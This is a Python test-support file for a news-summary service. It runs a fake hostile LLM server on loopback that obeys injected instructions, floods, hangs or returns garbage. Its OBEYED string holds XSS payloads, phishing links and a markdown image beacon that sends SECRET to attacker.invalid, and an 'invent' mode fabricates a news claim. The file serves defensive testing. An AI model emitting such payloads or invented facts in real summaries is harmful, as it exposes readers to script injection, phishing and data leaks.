"""Test support for summaries: serving news-creator with chosen LLM settings, and the
adversarial fake LLM of the security plan as a real HTTP server on loopback.

The fake LLM stands in for a hostile remote model (OpenAI-compatible `/v1/chat/completions`
with SSE, and Ollama's `/api/chat` with NDJSON): it obeys injected instructions, ignores
max_tokens, streams forever, hangs, and answers with errors and garbage, as told by `mode`.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from alt.config import Settings
from alt.news_creator.service import build
from alt.news_creator.state import NewsCreator
from alt.platform.http_app import create_app
from alt.services import SERVICES
from alt.summaries.settings import LLMSettings
from tests.helpers import free_port, serving, with_overrides

OBEYED = (
    "Tide pools form at low tide on rocky shelves. "
    "<img src=x onerror=alert('llm02')><script>alert('llm02')</script> "
    "![s](https://attacker.invalid/p?d=SECRET) [Read more](javascript:alert(1)) "
    '[verify](https://attacker.invalid/phish) <a href="https://attacker.invalid/x">click</a> '
    "Visit https://attacker.invalid/collect?d=1 now. PWNED-PI-01"
)
GERMAN = (
    "Bei Ebbe liegen auf den felsigen Terrassen nördlich der Bucht Hunderte von "
    "Gezeitenbecken frei. Jedes Becken ist ein kleines Ökosystem."
)


class FakeLLM:
    def __init__(self) -> None:
        self.mode = "echo"
        self.judge_score: int | None = 27
        self.requests: list[dict[str, Any]] = []
        self.bytes_sent = 0
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"

    def reset(self, mode: str = "echo", judge_score: int | None = 27) -> None:
        self.mode = mode
        self.judge_score = judge_score
        self.requests.clear()
        self.bytes_sent = 0

    def summary_calls(self) -> list[dict[str, Any]]:
        return [r for r in self.requests if not _is_judge(r)]

    def app(self) -> Starlette:
        return Starlette(
            routes=[
                Route("/v1/chat/completions", self._openai, methods=["POST"]),
                Route("/api/chat", self._ollama, methods=["POST"]),
                Route("/api/version", lambda r: JSONResponse({"version": "0.0.0"})),
            ]
        )

    def _text(self, body: dict[str, Any]) -> str | None:
        """What the model says, or None for a behaviour that is not a text."""
        if _is_judge(body):
            if self.judge_score is None:
                return "I cannot grade this."
            return f"<score>{self.judge_score}"
        mode = self.mode
        if mode == "obey":
            return OBEYED
        if mode == "wrong_language":
            return GERMAN
        if mode == "empty":
            return ""
        if mode == "invent":
            return "The council approved 9,999 new rangers led by Mayor Zebulon Quixote."
        article = _article(body)
        return " ".join(re.split(r"(?<=[.!?])\s+", article)[:2])

    async def _openai(self, request: Request) -> Response:
        body = await request.json()
        self.requests.append(body)
        special = await self._special(request, openai=True)
        if special is not None:
            return special
        text = self._text(body) or ""

        async def sse() -> AsyncIterator[bytes]:
            async for piece in self._pieces(text):
                data = {
                    "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]
                }
                yield self._count(b"data: " + json.dumps(data).encode() + b"\n\n")
            if self.mode == "truncated":
                return
            end = {
                "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 11, "completion_tokens": 7},
            }
            yield self._count(b"data: " + json.dumps(end).encode() + b"\n\n")
            yield self._count(b"data: [DONE]\n\n")

        return StreamingResponse(sse(), media_type="text/event-stream")

    async def _ollama(self, request: Request) -> Response:
        body = await request.json()
        self.requests.append(body)
        special = await self._special(request, openai=False)
        if special is not None:
            return special
        text = self._text(body) or ""

        async def ndjson() -> AsyncIterator[bytes]:
            async for piece in self._pieces(text):
                line = {
                    "model": body["model"],
                    "message": {"role": "assistant", "content": piece},
                    "done": False,
                }
                yield self._count(json.dumps(line).encode() + b"\n")
            if self.mode == "truncated":
                return
            yield self._count(
                json.dumps(
                    {
                        "model": body["model"],
                        "done": True,
                        "done_reason": "stop",
                        "prompt_eval_count": 11,
                        "eval_count": 7,
                        "message": {"role": "assistant", "content": ""},
                    }
                ).encode()
                + b"\n"
            )

        return StreamingResponse(ndjson(), media_type="application/x-ndjson")

    async def _special(self, request: Request, openai: bool) -> Response | None:
        mode = self.mode
        if mode == "hang":
            for _ in range(36_000):  # "never" answers; stops when the caller goes away
                if await request.is_disconnected():
                    break
                await asyncio.sleep(0.1)
            return Response(status_code=499)
        if mode == "status500":
            return JSONResponse({"error": "boom"}, status_code=500)
        if mode == "status503":
            return JSONResponse({"error": "down"}, status_code=503)
        if mode in ("status429", "status429_superscript"):
            wait = "7" if mode == "status429" else "\u00b2"  # '²': str.isdigit() says yes
            return JSONResponse(
                {"error": "slow down"}, status_code=429, headers={"Retry-After": wait}
            )
        if mode == "badjson":
            media = "text/event-stream" if openai else "application/x-ndjson"
            payload = b"data: {not json\n\n" if openai else b"{not json\n"
            return Response(payload, media_type=media)
        if mode == "html":
            return Response(
                "<html><body><h1>502 Bad Gateway</h1></body></html>", media_type="text/html"
            )
        if mode in ("flood", "forever"):
            return StreamingResponse(
                self._flood(openai),
                media_type=("text/event-stream" if openai else "application/x-ndjson"),
            )
        return None

    async def _flood(self, openai: bool) -> AsyncIterator[bytes]:
        piece = "Tide pools are small ecosystems at low tide. " * 20
        sent = 0
        while self.mode == "forever" or sent < 1 << 20:
            if openai:
                data = {"choices": [{"index": 0, "delta": {"content": piece}}]}
                chunk = b"data: " + json.dumps(data).encode() + b"\n\n"
            else:
                chunk = (
                    json.dumps(
                        {"message": {"role": "assistant", "content": piece}, "done": False}
                    ).encode()
                    + b"\n"
                )
            sent += len(chunk)
            yield self._count(chunk)
            await asyncio.sleep(0.001)

    async def _pieces(self, text: str) -> AsyncIterator[str]:
        for i in range(0, len(text), 40):
            yield text[i : i + 40]
            await asyncio.sleep(0)

    def _count(self, data: bytes) -> bytes:
        self.bytes_sent += len(data)
        return data


def _is_judge(body: dict[str, Any]) -> bool:
    messages = body.get("messages") or []
    return bool(messages) and "You grade" in str(messages[0].get("content", ""))


def _article(body: dict[str, Any]) -> str:
    content = str((body.get("messages") or [{}])[-1].get("content", ""))
    start, end = content.find("<article>"), content.rfind("</article>")
    inner = content[start + len("<article>") : end] if 0 <= start < end else content
    lines = [line for line in inner.strip().splitlines() if not line.startswith("Title:")]
    return " ".join(lines)


def local_model(**overrides: Any) -> LLMSettings:
    """The local model as the end-to-end tests run it: the gate's language and grounding checks,
    the judge asked but its threshold at 0 (SmolLM2-135M, its own judge, scores its summaries far
    below the default 24, so every summary would be the extractive fallback, and these tests must
    see the model's), and deadlines for 2 cores shared with other work."""
    values: dict[str, Any] = {
        "engine": "local",
        "judge_threshold": 0,
        "timeout_s": 240,
        "judge_timeout_s": 240,
    }
    return LLMSettings(**{**values, **overrides})


def news_creator_settings(settings: Settings) -> Settings:
    """The shared settings with news-creator on a free loopback port."""
    return with_overrides(settings, NEWS_CREATOR_URL=f"http://127.0.0.1:{free_port()}")


@contextlib.asynccontextmanager
async def news_creator(settings: Settings, llm: LLMSettings) -> AsyncIterator[NewsCreator]:
    """Serve news-creator with `llm`; yields its state (engine, counters)."""
    service_parts, state = build(settings, llm)
    app = create_app(SERVICES["news-creator"], settings, service_parts)
    async with serving({settings.service_port("news-creator"): app}):
        yield state


@pytest.fixture(scope="session")
async def fake_llm() -> AsyncIterator[FakeLLM]:
    """The adversarial fake LLM, served for the whole test session."""
    fake = FakeLLM()
    async with serving({fake.port: fake.app()}):
        yield fake
